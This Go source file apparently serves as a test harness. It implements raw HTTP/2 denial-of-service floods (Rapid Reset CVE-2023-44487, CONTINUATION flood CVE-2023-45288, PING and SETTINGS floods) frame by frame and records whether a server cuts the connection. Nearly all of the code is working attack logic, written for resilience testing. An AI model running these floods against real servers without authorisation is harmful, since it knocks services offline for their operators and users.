package portprobe

import (
	"encoding/binary"
	"errors"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// HTTP/2 floods (Rapid Reset CVE-2023-44487, CONTINUATION CVE-2023-45288, PING and SETTINGS floods),
// written frame by frame: the attacker's side of the connection, with no client library in the way.

func h2frame(typ, flags byte, stream uint32, payload []byte) []byte {
	b := make([]byte, 9, 9+len(payload))
	b[0], b[1], b[2] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload))
	b[3], b[4] = typ, flags
	binary.BigEndian.PutUint32(b[5:], stream&0x7fffffff)
	return append(b, payload...)
}

const (
	h2Headers      = 0x1
	h2RSTStream    = 0x3
	h2Settings     = 0x4
	h2Ping         = 0x6
	h2Continuation = 0x9
	h2EndStream    = 0x1
	h2EndHeaders   = 0x4
)

// hpackLiteral is a header as an HPACK literal without indexing (new name), lengths under 127.
func hpackLiteral(name, value string) []byte {
	b := []byte{0x00}
	b = append(b, hpackString(name)...)
	return append(b, hpackString(value)...)
}

func hpackString(s string) []byte { // RFC 7541 §5.2 without Huffman
	n := len(s)
	if n < 127 {
		return append([]byte{byte(n)}, s...)
	}
	b := []byte{127}
	n -= 127
	for n >= 128 {
		b = append(b, byte(n%128)+128)
		n /= 128
	}
	return append(append(b, byte(n)), s...)
}

// requestBlock is the header block of a gRPC POST to path.
func requestBlock(path string) []byte {
	b := []byte{0x83, 0x86} // :method POST, :scheme http
	b = append(b, 0x04)     // :path, literal value without indexing (indexed name 4)
	b = append(b, hpackString(path)...)
	b = append(b, 0x01) // :authority (indexed name 1)
	b = append(b, hpackString("x")...)
	b = append(b, hpackLiteral("content-type", "application/grpc")...)
	return append(b, hpackLiteral("te", "trailers")...)
}

// FloodResult is what a flood did: how many bytes went out, whether the server cut the connection
// before the flood ended (Cut), and whether it closed it at all (Closed: at the latest after the
// flood's half-close).
type FloodResult struct {
	Bytes  int64
	Cut    bool
	Closed bool
	Took   time.Duration
}

// flood writes the preface and an empty SETTINGS, then next() until it returns nil, max bytes have
// gone out, or the server closes the connection; the server's frames are read and discarded.
func flood(t testing.TB, dial Dialer, max int64, next func(i int) []byte) FloodResult {
	t.Helper()
	c, err := dial()
	if err != nil {
		t.Fatalf("flood: dial: %v", err)
	}
	defer c.Close()
	start := time.Now()
	_ = c.SetDeadline(start.Add(Wait))
	var closed atomic.Bool
	readDone := make(chan struct{})
	go func() {
		defer close(readDone)
		_, err := io.Copy(io.Discard, c)
		var ne net.Error
		closed.Store(!(errors.As(err, &ne) && ne.Timeout()))
	}()
	var sent int64
	cut := false
	write := func(b []byte) bool {
		n, err := c.Write(b)
		sent += int64(n)
		return err == nil
	}
	if write([]byte(H2Preface)) && write(h2frame(h2Settings, 0, 0, nil)) {
		for i := 0; sent < max; i++ {
			b := next(i)
			if b == nil {
				break
			}
			if !write(b) {
				cut = true
				break
			}
		}
	} else {
		cut = true
	}
	select {
	case <-readDone:
		cut = true
	default:
	}
	// Done flooding: half-close, and let the server finish with the connection.
	if tc, ok := c.(interface{ CloseWrite() error }); ok {
		_ = tc.CloseWrite()
	}
	select {
	case <-readDone:
	case <-time.After(Wait):
	}
	return FloodResult{Bytes: sent, Cut: cut, Closed: closed.Load(), Took: time.Since(start)}
}

// RapidReset opens n streams (a gRPC POST to path each) and resets each at once.
func RapidReset(t testing.TB, dial Dialer, path string, n int) FloodResult {
	t.Helper()
	block := requestBlock(path)
	return flood(t, dial, 1<<40, func(i int) []byte {
		if i >= n {
			return nil
		}
		id := uint32(2*i + 1)
		return append(h2frame(h2Headers, h2EndHeaders, id, block), h2frame(h2RSTStream, 0, id, []byte{0, 0, 0, 8})...)
	})
}

// ContinuationFlood opens one stream and sends CONTINUATION frames of valid headers (16 KiB each)
// that never end the header block, until the server closes the connection or max bytes went out.
func ContinuationFlood(t testing.TB, dial Dialer, path string, max int64) FloodResult {
	t.Helper()
	chunk := hpackLiteral("x-flood", strings.Repeat("a", 16<<10-32))
	return flood(t, dial, max, func(i int) []byte {
		if i == 0 {
			return h2frame(h2Headers, 0, 1, requestBlock(path))
		}
		return h2frame(h2Continuation, 0, 1, chunk)
	})
}

// PingFlood sends n PINGs (the server owes an ACK for each).
func PingFlood(t testing.TB, dial Dialer, n int) FloodResult {
	t.Helper()
	return flood(t, dial, 1<<40, func(i int) []byte {
		if i >= n {
			return nil
		}
		return h2frame(h2Ping, 0, 0, []byte{1, 2, 3, 4, 5, 6, 7, 8})
	})
}

// SettingsFlood sends n SETTINGS frames (the server owes an ACK for each).
func SettingsFlood(t testing.TB, dial Dialer, n int) FloodResult {
	t.Helper()
	return flood(t, dial, 1<<40, func(i int) []byte {
		if i >= n {
			return nil
		}
		return h2frame(h2Settings, 0, 0, []byte{0, 3, 0, 0, 0, 100}) // MAX_CONCURRENT_STREAMS 100
	})
}
